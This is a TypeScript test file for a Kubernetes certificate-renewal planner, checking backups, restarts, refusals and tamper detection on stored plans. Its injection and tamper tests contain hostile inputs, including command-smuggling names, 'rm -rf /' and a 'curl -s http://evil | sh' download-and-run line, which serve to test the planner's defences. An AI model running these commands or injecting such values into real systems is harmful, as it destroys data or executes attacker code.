import { test } from "node:test";
import assert from "node:assert/strict";
import {
  backupTimestamp,
  checkPlan,
  planRenewal,
  type PlanInput,
  type RenewalPlan,
} from "../../src/core/renew/plan.js";
import { NOW, clusterReport, config, node } from "../fixtures/prod-cluster.js";
import type { NodeReport } from "../../src/core/report/types.js";

const HA = config();
/** Shell text a step writes itself: only these shapes, with kubeadm's component names. */
const CODE_WORD =
  /^(?:crictl info >\/dev\/null 2>&1 \|\| docker info|pods=\$\(crictl pods -q --namespace kube-system --label component=[a-z-]+\)|\[ -z "\$pods" \] \|\| crictl rmp -f \$pods|ids=\$\(docker ps -q --filter 'name=\^k8s_([a-z-]+)_\1-\[\^_\]\+_kube-system_'\)|\[ -z "\$ids" \] \|\| docker stop \$ids)$/;
const input = (nodes: NodeReport[], extra: Partial<PlanInput> = {}, cfg = HA): PlanInput => ({
  cluster: cfg.clusters[0]!,
  report: clusterReport(...nodes),
  renewal: cfg.renewal,
  now: NOW,
  ...extra,
});
const ha = () => [node("m1"), node("m2"), node("m3")];

function planOf(result: ReturnType<typeof planRenewal>): RenewalPlan {
  assert.ok(result.ok, result.ok ? "" : result.reason);
  return result.plan;
}
function refusal(result: ReturnType<typeof planRenewal>): string {
  assert.equal(result.ok, false, "expected a refusal");
  return result.ok ? "" : result.reason;
}
const lines = (plan: RenewalPlan, nodeIndex = 0, step = "renew") =>
  plan.nodes[nodeIndex]!.steps.find((s) => s.id === step)!.commands.map((c) => c.line);

test("an HA cluster: every node, one at a time, in config order (not scan order)", () => {
  const [m1, m2, m3] = ha();
  const plan = planOf(planRenewal(input([m3!, m1!, m2!], { requestedBy: "U0ALICE01" })));
  assert.deepEqual(
    plan.nodes.map((n) => n.node),
    ["m1", "m2", "m3"],
  );
  assert.equal(plan.requestedBy, "U0ALICE01");
  assert.equal(plan.scope, "all");
  for (const n of plan.nodes) {
    assert.deepEqual(
      n.steps.map((s) => s.id),
      ["preflight", "backup", "renew", "restart", "verify"],
    );
    assert.equal(n.versionRule, "1.20+");
    assert.deepEqual(lines(plan, plan.nodes.indexOf(n)), ["kubeadm certs renew all"]);
    assert.equal(n.backup, `/var/lib/certs-bot/backups/prod/${n.node}/20261128T090000Z.tar.gz`);
    assert.equal(n.healthUrl, `https://${n.host}:6443/readyz`);
    for (const s of n.steps) assert.ok(s.run && s.verify && s.undo, `${s.id} has run, verify and undo`);
  }
  assert.deepEqual(
    plan.nodes[0]!.renew.map((c) => c.name),
    [
      "apiserver",
      "apiserver-kubelet-client",
      "front-proxy-client",
      "apiserver-etcd-client",
      "etcd-server",
      "etcd-peer",
      "etcd-healthcheck-client",
      "admin.conf",
      "controller-manager.conf",
      "scheduler.conf",
    ],
  );
  assert.equal(plan.approval.requiredApprovals, 1);
  assert.equal(plan.approval.expiresAt.toISOString(), "2026-11-28T13:00:00.000Z", "240 minutes");
  assert.equal(plan.renewedUntil.toISOString(), "2027-11-28T09:00:00.000Z");
});

test("backup, restart and rollback per node", () => {
  const plan = planOf(planRenewal(input(ha())));
  assert.deepEqual(lines(plan, 1, "backup"), [
    "mkdir -p '/var/lib/certs-bot/backups/prod/m2'",
    "[ ! -e '/var/lib/certs-bot/backups/prod/m2/20261128T090000Z.tar.gz' ] && tar -czf " +
      "'/var/lib/certs-bot/backups/prod/m2/20261128T090000Z.tar.gz' -C '/etc/kubernetes' pki admin.conf " +
      "controller-manager.conf scheduler.conf",
  ]);
  const restart = lines(plan, 0, "restart");
  assert.equal(restart[0], "mkdir -p '/var/lib/certs-bot/backups/prod/m1/20261128T090000Z.aside/manifests'");
  assert.equal(
    restart[1],
    "mv '/etc/kubernetes/manifests/kube-apiserver.yaml' " +
      "'/var/lib/certs-bot/backups/prod/m1/20261128T090000Z.aside/manifests/kube-apiserver.yaml'",
  );
  assert.equal(restart.filter((l) => l.startsWith("mv ")).length, 8, "4 out, 4 back (local etcd)");
  assert.equal(restart.at(-1), "systemctl restart kubelet");
  assert.deepEqual(
    plan.nodes[0]!.steps.find((s) => s.id === "renew")!.undoCommands.map((c) => c.line),
    ["tar -xzf '/var/lib/certs-bot/backups/prod/m1/20261128T090000Z.tar.gz' -C '/etc/kubernetes'"],
  );
  assert.ok(plan.nodes[0]!.rollbackTriggers.some((t) => /still serves the old certificate/.test(t)));
  assert.ok(
    plan.nodes[0]!.rollbackTriggers.some((t) =>
      /restore .*\.tar\.gz, restart with the manifests only/.test(t),
    ),
  );

  const crictl = config("renewal: { restartStrategy: crictl }");
  const c = planOf(planRenewal(input(ha(), {}, crictl)));
  assert.deepEqual(lines(c, 0, "restart"), [
    ...["kube-apiserver", "kube-controller-manager", "kube-scheduler", "etcd"].flatMap((name) => [
      `pods=$(crictl pods -q --namespace kube-system --label component=${name})`,
      '[ -z "$pods" ] || crictl rmp -f $pods',
    ]),
    "systemctl restart kubelet",
  ]);
  assert.deepEqual(lines(c, 0, "preflight"), [
    "kubeadm version -o short",
    "systemctl is-active kubelet",
    "crictl info",
  ]);
  const docker = config("renewal: { restartStrategy: docker }");
  const d = planOf(
    planRenewal(
      input(
        [
          node("m1", {
            absent: [
              "etcd-ca",
              "etcd-server",
              "etcd-peer",
              "etcd-healthcheck-client",
              "apiserver-etcd-client",
            ],
          }),
          node("m2"),
          node("m3"),
        ],
        {},
        docker,
      ),
    ),
  );
  assert.deepEqual(
    lines(d, 0, "restart"),
    [
      ...["kube-apiserver", "kube-controller-manager", "kube-scheduler"].flatMap((name) => [
        `ids=$(docker ps -q --filter 'name=^k8s_${name}_${name}-[^_]+_kube-system_')`,
        '[ -z "$ids" ] || docker stop $ids',
      ]),
      "systemctl restart kubelet",
    ],
    "external etcd: no etcd container to restart",
  );
});

test("the backup path is never reused: a new timestamp per plan, and tar refuses an existing file", () => {
  const a = planOf(planRenewal(input(ha())));
  const b = planOf(planRenewal(input(ha(), { now: new Date(NOW.getTime() + 1000) })));
  assert.notEqual(a.nodes[0]!.backup, b.nodes[0]!.backup);
  assert.equal(backupTimestamp(new Date("2026-01-05T03:15:07.123Z")), "20260105T031507Z");
  assert.match(lines(a, 0, "backup")[1]!, /^\[ ! -e '[^']+\.tar\.gz' \] && tar -czf /);
  assert.equal(new Set(a.nodes.map((n) => n.backup)).size, 3, "one per node");
});

test("--node plans that node only; an unknown one is refused with suggestions", () => {
  const plan = planOf(planRenewal(input(ha(), { node: "m2" })));
  assert.deepEqual(
    plan.nodes.map((n) => n.node),
    ["m2"],
  );
  const unknown = planRenewal(input(ha(), { node: "m4" }));
  assert.match(
    refusal(unknown),
    /^unknown node "m4" in cluster prod; did you mean m1, m2, m3\? \(nodes: m1, m2, m3\)$/,
  );
  assert.equal(!unknown.ok && unknown.usage, true, "the caller's mistake");
});

test("--certs: the named ones by name; unknown ones suggested; never-renewed ones with their repair", () => {
  const plan = planOf(planRenewal(input(ha(), { certs: ["apiserver-kubelet-client", "admin.conf"] })));
  assert.deepEqual(plan.scope, ["apiserver-kubelet-client", "admin.conf"]);
  assert.deepEqual(lines(plan, 2), [
    "kubeadm certs renew apiserver-kubelet-client",
    "kubeadm certs renew admin.conf",
  ]);
  assert.match(
    plan.nodes[0]!.steps.find((s) => s.id === "verify")!.verify,
    /is apiserver\.crt on disk \(no drift\)/,
    "apiserver not renewed: the served certificate must still match the file",
  );
  assert.match(
    refusal(planRenewal(input(ha(), { certs: ["apiserver-kubelet-clinet"] }))),
    /^unknown certificate "apiserver-kubelet-clinet"; did you mean apiserver-kubelet-client\?/,
  );
  assert.equal(
    (planRenewal(input(ha(), { certs: ["nope"] })) as { usage?: boolean }).usage,
    true,
    "an unknown name is a usage error",
  );
  const kubeletResult = planRenewal(input(ha(), { certs: ["kubelet-client"] }));
  assert.equal(
    (kubeletResult as { usage?: boolean }).usage,
    undefined,
    "a known name kubeadm cannot renew is a refusal",
  );
  const kubelet = refusal(kubeletResult);
  assert.match(
    kubelet,
    /kubelet-client: the kubelet rotates its own client certificate; kubeadm does not renew it/,
  );
  assert.match(kubelet, /kubeadm kubeconfig user --org system:nodes/);
  assert.match(
    refusal(planRenewal(input(ha(), { certs: ["ca"] }))),
    /ca: a CA is not renewed by kubeadm.*Manual rotation/,
  );
  assert.match(
    refusal(planRenewal(input(ha(), { certs: ["super-admin.conf"] }))),
    /node m1: cannot renew super-admin\.conf: the scan found no such file on this node/,
  );
});

test("refusals: unreachable node, unsupported kubeadm, no kubeadm — every reason at once", () => {
  const reason = refusal(
    planRenewal(
      input([
        node("m1", { unreachable: "connect ECONNREFUSED 10.0.0.1:22" }),
        node("m2", { version: "v1.7.16" }),
        node("m3", { version: null }),
      ]),
    ),
  );
  assert.deepEqual(reason.split("\n"), [
    "node m1 was not reachable in the fresh scan: connect ECONNREFUSED 10.0.0.1:22",
    "node m2: kubeadm v1.7.16 is older than 1.8, which has no certificate phases; renew by hand",
    "node m3: no kubeadm found on the node (kubeadm version -o short printed nothing), so it cannot renew",
  ]);
  // --node narrows what must be reachable.
  assert.ok(
    planRenewal(input([node("m1", { unreachable: "down" }), node("m2"), node("m3")], { node: "m2" })).ok,
  );
});

test("refusal: the CA is expired, or expires before the renewed leaves would", () => {
  assert.match(
    refusal(planRenewal(input([node("m1", { days: { ca: -2 } }), node("m2"), node("m3")]))),
    /^node m1: CA ca expired on 2026-11-26, so renewing what it signs cannot help/,
  );
  const soon = refusal(planRenewal(input(ha().map((n) => node(n.name, { days: { "etcd-ca": 100 } })))));
  assert.match(
    soon,
    /node m1: CA etcd-ca expires on 2027-03-08, before the renewed leaves would \(2027-11-28\)/,
  );
  assert.equal(soon.split("\n").length, 3, "each node says so");
  // Only the CAs of what is renewed matter.
  assert.ok(
    planRenewal(
      input(
        ha().map((n) => node(n.name, { days: { "etcd-ca": 100 } })),
        { certs: ["apiserver"] },
      ),
    ).ok,
  );
});

test("one cluster, three kubeadm generations: each node gets its version's commands", () => {
  const plan = planOf(
    planRenewal(
      input(
        [
          node("m1", { version: "v1.28.4" }),
          node("m2", { version: "v1.19.16" }),
          node("m3", {
            version: "v1.11.10",
            days: { "apiserver-kubelet-client": -3 },
            embeddedKubeletConf: true,
          }),
        ],
        { certs: ["apiserver-kubelet-client"] },
      ),
    ),
  );
  assert.deepEqual(lines(plan, 0), ["kubeadm certs renew apiserver-kubelet-client"]);
  assert.deepEqual(lines(plan, 1), ["kubeadm alpha certs renew apiserver-kubelet-client"]);
  const B = "/var/lib/certs-bot/backups/prod/m3/20261128T090000Z";
  assert.deepEqual(lines(plan, 2), [
    `kubeadm config view --kubeconfig '/etc/kubernetes/admin.conf' > '${B}.kubeadm.yaml'`,
    `mkdir -p '${B}.aside'`,
    `mv '/etc/kubernetes/pki/apiserver-kubelet-client.crt' '${B}.aside/apiserver-kubelet-client.crt'`,
    `mv '/etc/kubernetes/pki/apiserver-kubelet-client.key' '${B}.aside/apiserver-kubelet-client.key'`,
    `kubeadm alpha phase certs apiserver-kubelet-client --config '${B}.kubeadm.yaml'`,
  ]);
  assert.equal(plan.nodes[2]!.healthUrl, "https://10.0.0.3:6443/healthz");
  assert.equal(plan.nodes[2]!.renew[0]!.status, "expired");
  assert.deepEqual(
    plan.nodes[2]!.notRenewed.map((n) => [n.name, n.status]),
    [["kubelet.conf", "embedded"]],
  );
});

test("a custom kubernetesDir: renew per name with --cert-dir, and kubeconfigs are left out with the reason", () => {
  const custom = config("", ["m1"], ", paths: { kubernetesDir: /srv/k8s }");
  const plan = planOf(planRenewal(input([node("m1")], {}, custom)));
  assert.equal(lines(plan)[0], "kubeadm certs renew apiserver --cert-dir '/srv/k8s/pki'");
  assert.ok(lines(plan).every((l) => !l.includes(".conf")));
  assert.deepEqual(
    plan.nodes[0]!.skipped.map((s) => s.name),
    ["admin.conf", "controller-manager.conf", "scheduler.conf"],
  );
  assert.match(plan.nodes[0]!.skipped[0]!.why, /renews kubeconfigs only under \/etc\/kubernetes/);
  assert.match(
    refusal(planRenewal(input([node("m1")], { certs: ["admin.conf"] }, custom))),
    /cannot renew admin\.conf: kubeadm 1\.20\+ renews kubeconfigs only under/,
  );
});

test("an expired kubelet client certificate is reported with its repair, never renewed", () => {
  const plan = planOf(
    planRenewal(input([node("m1", { days: { "kubelet-client": -1 } }), node("m2"), node("m3")])),
  );
  const [note] = plan.nodes[0]!.notRenewed;
  assert.equal(note?.name, "kubelet-client");
  assert.equal(note?.status, "expired");
  assert.match(note!.repair, /Kubelet client certificate rotation fails/);
  assert.ok(plan.nodes[0]!.renew.every((c) => (c.name as string) !== "kubelet-client"));
});

test("an unreadable renewable file is refused rather than renewed blindly", () => {
  const m1 = node("m1");
  const broken = m1.certificates.find((c) => c.name === "front-proxy-client")!;
  Object.assign(broken, { status: "unreadable", notAfter: null, error: "Permission denied" });
  assert.match(
    refusal(planRenewal(input([m1, node("m2"), node("m3")]))),
    /node m1: front-proxy-client is unreadable \(Permission denied\); fix it or leave it out with --certs/,
  );
});

test("nothing unvalidated reaches a command: every word is a fixed word or a validated path", () => {
  const hostile = ["apiserver; touch /tmp/pwned", "$(id)", "admin.conf'"];
  for (const certs of hostile) assert.equal(planRenewal(input(ha(), { certs: [certs] })).ok, false, certs);
  assert.equal(planRenewal(input(ha(), { node: "m1; reboot" })).ok, false);
  const fixed = /^(?:[A-Za-z0-9_.,:=/@%+-]+|&&|\||!|\[|\]|>)$/;
  for (const version of ["v1.30.4", "v1.19.16", "v1.13.5", "v1.9.11"]) {
    for (const strategy of ["manifests", "crictl", "docker"]) {
      const cfg = config(`renewal: { restartStrategy: ${strategy}, backupDir: "/backups/with space" }`);
      const plan = planOf(
        planRenewal(
          input(
            ha().map((n) => node(n.name, { version })),
            {},
            cfg,
          ),
        ),
      );
      for (const n of plan.nodes) {
        for (const step of n.steps) {
          for (const c of [...step.commands, ...step.undoCommands]) {
            for (const word of c.words) {
              if (typeof word === "string") assert.match(word, fixed, c.line);
              else if ("code" in word) assert.match(word.code, CODE_WORD, c.line);
              else
                assert.match(
                  word.path,
                  /^\/(?:etc\/kubernetes|backups\/with space\/prod\/m\d)(?:\/|\.|$)/,
                  c.line,
                );
            }
          }
        }
      }
    }
  }
});

// --- The approved plan is the plan that runs --------------------------------------------------------

/** The plan as it comes back from Redis: JSON, changed by `tamper`. */
function stored(plan: RenewalPlan, tamper: (p: RenewalPlan) => void = () => undefined): RenewalPlan {
  const copy = JSON.parse(JSON.stringify(plan)) as RenewalPlan;
  tamper(copy);
  return copy;
}
const check = (plan: RenewalPlan, cfg = HA) => checkPlan(plan, cfg.clusters[0]!, cfg.renewal);

test("a stored plan untouched, under the same config, passes the check for every strategy and version", () => {
  for (const strategy of ["manifests", "crictl", "docker"]) {
    for (const version of ["v1.30.4", "v1.19.16", "v1.13.5", "v1.9.11"]) {
      const cfg = config(`renewal: { restartStrategy: ${strategy} }`);
      const plan = planOf(
        planRenewal(
          input(
            ha().map((n) => node(n.name, { version })),
            {},
            cfg,
          ),
        ),
      );
      assert.deepEqual(check(stored(plan), cfg), [], `${strategy} ${version}`);
    }
  }
});

test("a stored plan changed in Redis is refused, naming the node and what differs", () => {
  const plan = planOf(planRenewal(input(ha())));
  const cases: [string, (p: RenewalPlan) => void, RegExp][] = [
    [
      "a command line of the renew step",
      (p) => {
        const step = p.nodes[1]!.steps.find((s) => s.id === "renew")!;
        (step.commands[0] as { line: string }).line = "curl -s http://evil | sh";
      },
      /^node m2: the stored renew differ from what its spec derives$/,
    ],
    [
      "a component name carrying shell code, with the shown steps forged to match",
      (p) => {
        p.nodes[0]!.spec.components = ["kube-apiserver$(reboot)"];
      },
      /^node m1: components differ from today's config$/,
    ],
    [
      "another kubernetes directory",
      (p) => {
        p.nodes[0]!.spec.kubernetesDir = "/";
      },
      /^node m1: kubernetesDir differ from today's config$/,
    ],
    [
      "a backup outside backupDir",
      (p) => {
        p.nodes[2]!.spec.backup = "/etc/kubernetes/pki/ca.key";
      },
      /^node m3: backup differ from today's config$/,
    ],
    [
      "a certificate name kubeadm never renews",
      (p) => {
        (p.nodes[0]!.spec.names as string[]).push("ca");
      },
      /^node m1: its certificate names are not renewable names$/,
    ],
    [
      "an unknown restart strategy",
      (p) => {
        (p.nodes[0]!.spec as { restart: string }).restart = "reboot";
      },
      /^node m1: its restart strategy is unknown$/,
    ],
    [
      "an extra field in the spec",
      (p) => {
        (p.nodes[0]!.spec as unknown as Record<string, unknown>).preScript = "rm -rf /";
      },
      /^node m1: node differ from today's config$/,
    ],
    [
      "a plan saved without a spec",
      (p) => {
        delete (p.nodes[0] as Partial<RenewalPlan["nodes"][number]>).spec;
      },
      /^node m1: it has no spec$/,
    ],
    [
      "a node that is not configured",
      (p) => {
        p.nodes[0]!.node = "intruder";
      },
      /^node intruder: not in today's config$/,
    ],
  ];
  for (const [what, tamper, expected] of cases) {
    const problems = check(stored(plan, tamper));
    assert.equal(problems.length, 1, `${what}: ${problems.join(" | ")}`);
    assert.match(problems[0]!, expected, what);
  }
});

test("a plan approved before the config changed (host, port, backupDir) is refused", () => {
  const plan = planOf(planRenewal(input(ha())));
  assert.match(
    check(stored(plan), config("", ["m1", "m2", "m3"], ", apiserver: { port: 8443 }"))[0]!,
    /healthUrl/,
  );
  assert.match(
    check(stored(plan), config('renewal: { backupDir: "/srv/backups" }'))[0]!,
    /backupRoot, backup, aside, configFile/,
  );
});
